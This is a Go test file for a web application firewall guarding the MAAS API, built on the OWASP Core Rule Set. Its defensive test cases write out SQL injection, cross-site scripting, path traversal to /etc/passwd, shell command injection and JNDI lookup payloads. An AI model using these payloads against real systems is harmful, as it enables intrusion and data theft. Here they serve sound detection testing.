package waf

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"math/rand"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/corazawaf/coraza-coreruleset/v4"
)

var shared = sync.OnceValues(New)

func rules(t testing.TB) *Rules {
	t.Helper()
	r, err := shared()
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// call is a request as MAAS's clients send them; fields are of its form.
func call(method, target string, fields ...string) Request {
	u, err := url.Parse("https://10.0.0.1:5443" + target)
	if err != nil {
		u = &url.URL{Path: "/", RawQuery: target}
	}
	q := Request{Method: method, Proto: "HTTP/1.1", URL: u, Host: "10.0.0.1:5443",
		Header: http.Header{"User-Agent": {"Python-httplib2/0.20.2 (gzip)"}, "Accept": {"*/*"}, "Content-Type": {"application/x-www-form-urlencoded"}}, Form: url.Values{}}
	for i := 0; i+1 < len(fields); i += 2 {
		q.Form.Add(fields[i], fields[i+1])
	}
	return q
}

func agent(q Request, text string) Request {
	q.Header.Set("User-Agent", text)
	return q
}

const machine = "/MAAS/api/2.0/machines/abc123/"

func TestCheck(t *testing.T) {
	for _, c := range []struct {
		name  string
		q     Request
		asked bool
		rule  int // that refuses; 0: served
	}{
		{"a list", call("GET", "/MAAS/api/2.0/machines/?op=list_allocated"), false, 0},
		{"a filter", call("GET", "/MAAS/api/2.0/machines/?mac_address=52:54:00:00:00:09&zone=default"), false, 0},
		{"an address and a network", call("POST", "/MAAS/api/2.0/subnets/", "cidr", "10.1.0.0/24", "gateway_ip", "fd00::1"), false, 0},
		{"prose", call("PUT", machine, "description", "Rack 3, by the window (left); ask Ann & Bob: it's loud."), true, 0},
		{"a command's name", call("PUT", machine, "hostname", "docker-1"), false, 0},
		{"a kernel's options", call("POST", "/MAAS/api/2.0/maas/?op=set_config", "name", "kernel_opts", "value", "console=ttyS0,115200 net.ifnames=0 quiet"), true, 0},
		{"injection in a field", call("PUT", machine, "description", "x' OR '1'='1' --"), true, 942100},
		{"injection in the query", call("GET", "/MAAS/api/2.0/machines/?hostname=1%20AND%20(SELECT%206810%20FROM(SELECT%20COUNT(*)"), true, 942100},
		{"injection in a name", call("PUT", machine, "x' UNION SELECT password FROM users --", "1"), true, 942190},
		{"script", call("PUT", machine, "description", "<script>alert(1)</script>"), true, 941100},
		{"script in the path", call("GET", "/machines/%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"), true, 941120},
		{"steps upwards", call("GET", "/MAAS/api/2.0/files/?name=../../../../etc/passwd"), true, 930100},
		{"steps upwards, twice encoded", call("GET", "/assets/..%252f..%252fetc/passwd"), true, 930100},
		{"a shell", call("PUT", machine, "description", "x; cat /etc/passwd"), true, 932160},
		{"a file of others", call("GET", "/.git/config"), true, 930130},
		{"a scanner", agent(call("GET", "/"), "sqlmap/1.7"), true, 913100},
		{"JNDI", agent(call("GET", "/"), "${jndi:ldap://203.0.113.1/a}"), true, 944150},
		{"another method", call("TRACK", "/"), true, 911100},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := rules(t)
			_, _ = r.Check(t.Context(), call(c.q.Method, "/")) // so that the head is known
			v, err := r.Check(t.Context(), c.q)
			if err != nil || v.Asked != c.asked || v.Refuse != (c.rule != 0) || c.rule != 0 && !slices.Contains(v.Rules, c.rule) {
				t.Errorf("got %+v, %v, want asked %v and rule %d", v, err, c.asked, c.rule)
			}
		})
	}
}

// TestHeads sees which headers have the rules asked again: the first request with them, and any with something that they have not seen.
func TestHeads(t *testing.T) {
	r, err := New()
	if err != nil {
		t.Fatal(err)
	}
	with := func(fields ...string) Request {
		q := call("POST", "/MAAS/api/2.0/machines/")
		for i := 0; i < len(fields); i += 2 {
			q.Header.Set(fields[i], fields[i+1])
		}
		return q
	}
	for _, c := range []struct {
		name   string
		q      Request
		asked  bool
		refuse bool
	}{
		{"the first", with(), true, false},
		{"again", with(), false, false},
		{"a proxy's", with("X-Forwarded-For", "192.0.2.1"), true, false},
		{"another client of it", with("X-Forwarded-For", "192.0.2.2"), false, false},
		{"an attack there", with("X-Forwarded-For", "${jndi:ldap://x}"), true, true},
		{"that again", with("X-Forwarded-For", "${jndi:ldap://x}"), true, true},
		{"another program", with("User-Agent", "nuclei"), true, true},
		{"parts", with("Content-Type", `multipart/form-data; boundary="===abc"`), true, false},
		{"a boundary of letters", with("Content-Type", "multipart/form-data; boundary=abc123"), true, false},
		{"another one", with("Content-Type", "multipart/form-data; boundary=def456"), false, false},
		{"Python's", with("Content-Type", `multipart/form-data; boundary="===============7330845974216740156=="`), false, false},
		{"one that is like it", with("Content-Type", "multipart/form-data; boundary=/onload="), true, false},
		{"a boundary that is none", with("Content-Type", "multipart/form-data; boundary=a<script>alert(1)</script>"), true, true},
		{"another header", with("X-HTTP-Method-Override", "PATCH"), true, true},
	} {
		v, err := r.Check(t.Context(), c.q)
		if err != nil || v.Asked != c.asked || v.Refuse != c.refuse {
			t.Errorf("%s: got %+v, %v", c.name, v, err)
		}
	}
}

// TestVerdictTellsNothing sends a word in every part: a verdict holds none of it.
func TestVerdictTellsNothing(t *testing.T) {
	const word = "canary"
	q := call("POST", "/"+word+"'/?"+word+"=1'+or+"+word+"--", word+"' or 1=1 --", "<script>"+word+"</script>")
	q.Header.Set("X-"+word, "${jndi:"+word+"}")
	v, err := rules(t).Check(t.Context(), q)
	if err != nil || !v.Refuse {
		t.Fatalf("got %+v, %v", v, err)
	}
	if strings.Contains(strings.ToLower(fmt.Sprintf("%+v", v)), word) {
		t.Errorf("got %+v", v)
	}
}

// TestCredentialsAreNotShown sends what matches where credentials are.
func TestCredentialsAreNotShown(t *testing.T) {
	q := call("GET", "/MAAS/api/2.0/machines/")
	for name := range credentials {
		q.Header.Set(name, "' or 1=1 -- ${jndi:ldap://x} <script>alert(1)</script>")
	}
	if v, err := rules(t).Check(t.Context(), q); err != nil || v.Refuse || len(v.Rules) > 0 {
		t.Errorf("got %+v, %v", v, err)
	}
}

// TestExclusions takes each exclusion away: then what clients send is refused or suspected. With it, it is not.
func TestExclusions(t *testing.T) {
	head := call("GET", "/")
	head.Header.Set("Content-Length", "x")
	for _, c := range []struct {
		rules string
		q     Request
	}{
		{"920160-920181", call("POST", machine, "a", "b c")},
		{"932250", call("PUT", machine, "tags", "svn,web")},
		{"932260", call("PUT", machine, "hostname", "docker-1")},
		{"942220", call("POST", "/MAAS/api/2.0/boot-resources/", "size", "2147483648")},
		{"931100", call("POST", "/MAAS/api/2.0/rbac-providers/", "address", "https://10.0.0.7:5000")},
		{"920350", call("GET", "/")},
	} {
		t.Run(c.rules, func(t *testing.T) {
			i := slices.IndexFunc(exclusions, func(e exclusion) bool { return e.rules == c.rules })
			if i < 0 {
				t.Fatal("there is no such exclusion")
			}
			less := slices.Delete(slices.Clone(exclusions), i, i+1)
			without, err := with(less)
			if err != nil {
				t.Fatal(err)
			}
			if v := without.evaluate(c.q); len(v.Rules) == 0 {
				t.Error("without it nothing matches: it has no reason")
			}
			if v := rules(t).evaluate(c.q); len(v.Rules) != 0 {
				t.Errorf("with it: got %+v", v)
			}
		})
	}
	if len(exclusions) != 6 {
		t.Errorf("%d exclusions, of which 6 are tested", len(exclusions))
	}
}

func TestBounds(t *testing.T) {
	r := rules(t)
	many := call("PUT", machine)
	for i := range maxValues + 1 {
		many.Form.Add("tag", strconv.Itoa(i)+" x")
	}
	list := call("GET", machine+"?"+strings.Repeat("id=abc123&", 3000)+"id=abc")
	hidden := call("GET", list.URL.RequestURI()+"&q=<script>alert(1)</script>")
	for _, c := range []struct {
		name string
		q    Request
		want error
	}{
		{"many values", many, ErrTooMuch},
		{"a long value", call("PUT", machine, "description", strings.Repeat("a b ", maxText/4)+"c"), ErrTooMuch},
		{"a long one", call("PUT", machine, "description", strings.Repeat("a b ", 200)), nil},
		{"many harmless values", list, nil},
	} {
		if v, err := r.Check(t.Context(), c.q); !errors.Is(err, c.want) || v.Refuse {
			t.Errorf("%s: got %+v, %v, want %v", c.name, v, err, c.want)
		}
	}
	if v, err := r.Check(t.Context(), hidden); err != nil || !v.Refuse {
		t.Errorf("behind many harmless values: got %+v, %v", v, err)
	}
}

// TestBusy fills all slots: who comes then has no verdict when its time is over, and a panic gives its slot back.
func TestBusy(t *testing.T) {
	r, err := New()
	if err != nil {
		t.Fatal(err)
	}
	for range cap(r.slots) {
		r.slots <- struct{}{}
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	q := call("PUT", machine, "description", "a b")
	if _, err := r.Check(ctx, q); !errors.Is(err, ErrTime) {
		t.Errorf("got %v", err)
	}
	for range cap(r.slots) {
		<-r.slots
	}
	r.engine = nil // breaks
	for range 3 * cap(r.slots) {
		if _, err := r.Check(t.Context(), q); !errors.Is(err, ErrBroken) {
			t.Fatalf("got %v", err)
		}
	}
}

// TestHarmless asks the rules about texts that the cheap question lets pass: single words of the rules' own lists and patterns, and several of
// them joined by each harmless sign. None may match.
func TestHarmless(t *testing.T) {
	r := rules(t)
	word := regexp.MustCompile(`[A-Za-z0-9_.:/@-]{2,}`)
	set := map[string]bool{}
	if err := fs.WalkDir(coreruleset.FS, "@owasp_crs", func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		text, err := fs.ReadFile(coreruleset.FS, path)
		for _, w := range word.FindAllString(string(text), -1) {
			set[w] = true
		}
		return err
	}); err != nil {
		t.Fatal(err)
	}
	words := make([]string, 0, len(set))
	for w := range set {
		words = append(words, w)
	}
	slices.Sort(words)
	n := 8000
	chance := rand.New(rand.NewSource(1)) //nolint:gosec // the same texts each time
	if testing.Short() {
		n = 150
		chance.Shuffle(len(words), func(i, j int) { words[i], words[j] = words[j], words[i] })
	}
	asked := 0
	try := func(q Request, text string) {
		asked++
		if v := r.evaluate(q); len(v.Rules) > 0 {
			t.Errorf("%q passes, but %v match", text, v.Rules)
		}
	}
	both := func(text string) {
		if r.words.harmless(text) {
			try(call("PUT", machine, "description", text), text)
			try(call("PUT", machine, text, "1"), text)
		}
		if u, err := url.Parse("https://localhost/machines/" + text); err == nil && r.words.harmlessURL(u) {
			try(call("GET", u.RequestURI()), text)
		}
	}
	for _, w := range words[:min(len(words), n)] {
		both(w)
	}
	const signs = "-_.:,/@"
	for range n {
		text := words[chance.Intn(len(words))]
		for range 1 + chance.Intn(4) {
			text += string(signs[chance.Intn(len(signs))]) + words[chance.Intn(len(words))]
		}
		both(text)
	}
	if asked < n/2 {
		t.Errorf("only %d texts of %d pass: this proves little", asked, 2*n)
	}
}

func corpus(t *testing.T) string {
	dir := os.Getenv("METALWARD_LOGS")
	if dir == "" {
		dir = filepath.Join("..", "..", "..", "shared", "data", "logs")
	}
	dir = filepath.Join(dir, "payloads")
	if _, err := os.Stat(dir); err != nil {
		t.Skip("the labelled payloads are not here; METALWARD_LOGS names their folder")
	}
	if testing.Short() {
		t.Skip("a minute: without -short")
	}
	return dir
}

// TestLabelledPayloads measures: what share of attacks is refused, by kind, and how many harmless values are. Each value is sent in a field as a
// machine's description, each request of the rules' own tests as it is.
func TestLabelledPayloads(t *testing.T) {
	dir, r := corpus(t), rules(t)
	lines := map[string][]string{}
	for _, name := range []string{"httpparams.txt", "libinjection.txt", "crs-requests.txt"} {
		text, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		lines[name] = strings.Split(string(text), "\n")
	}
	f, err := os.Open(filepath.Join(dir, "labels.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	type tally struct{ n, refused, passed int }
	sum := map[string]*tally{}
	for s := bufio.NewScanner(f); s.Scan(); {
		var l struct {
			File, Kind string
			Line       int `json:"line_no"`
			Truth      bool
		}
		if err := json.Unmarshal(s.Bytes(), &l); err != nil {
			t.Fatal(err)
		}
		if lines[l.File] == nil || l.Line < 1 || l.Kind == "rule_negative" {
			continue
		}
		line := lines[l.File][l.Line-1]
		q := call("PUT", machine)
		if l.File == "crs-requests.txt" {
			method, target, _ := strings.Cut(line, " ")
			q = call(method, target)
		} else {
			value, err := url.PathUnescape(line)
			if err != nil {
				value = line
			}
			q.Form.Set("description", value)
		}
		v, err := r.Check(t.Context(), q)
		if err != nil {
			t.Errorf("%s:%d: %v", l.File, l.Line, err)
		}
		if !v.Asked && l.Truth {
			if o := r.evaluate(q); o.Refuse {
				t.Errorf("%s:%d passes the cheap question, but %v would refuse it", l.File, l.Line, o.Rules)
			}
		}
		key := fmt.Sprintf("%s %s %v", l.File, l.Kind, map[bool]string{true: "attack", false: "harmless"}[l.Truth])
		if sum[key] == nil {
			sum[key] = &tally{}
		}
		sum[key].n++
		if v.Refuse {
			sum[key].refused++
		}
		if !v.Asked {
			sum[key].passed++
		}
		if v.Refuse != l.Truth && os.Getenv("METALWARD_SHOW") != "" {
			t.Logf("%s: %v %.150s", key, v.Rules, line)
		}
	}
	for key, c := range sum {
		t.Logf("%-45s %6d, refused %6d (%.2f %%), not asked %6d", key, c.n, c.refused, 100*float64(c.refused)/float64(c.n), c.passed)
	}
}

func BenchmarkNew(b *testing.B) {
	for b.Loop() {
		if _, err := New(); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkCheck(b *testing.B) {
	for _, c := range []struct {
		name string
		q    Request
	}{
		{"harmless", call("GET", "/MAAS/api/2.0/machines/?op=list_allocated&zone=default")},
		{"prose", call("PUT", machine, "description", "Rack 3, by the window (left)")},
		{"attack", call("PUT", machine, "description", "x' OR '1'='1' --")},
		{"longest", call("PUT", machine, "description", strings.Repeat("a b ", 2000))},
	} {
		b.Run(c.name, func(b *testing.B) {
			r := rules(b)
			_, _ = r.Check(b.Context(), call(c.q.Method, "/"))
			b.ResetTimer()
			for b.Loop() {
				if _, err := r.Check(b.Context(), c.q); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
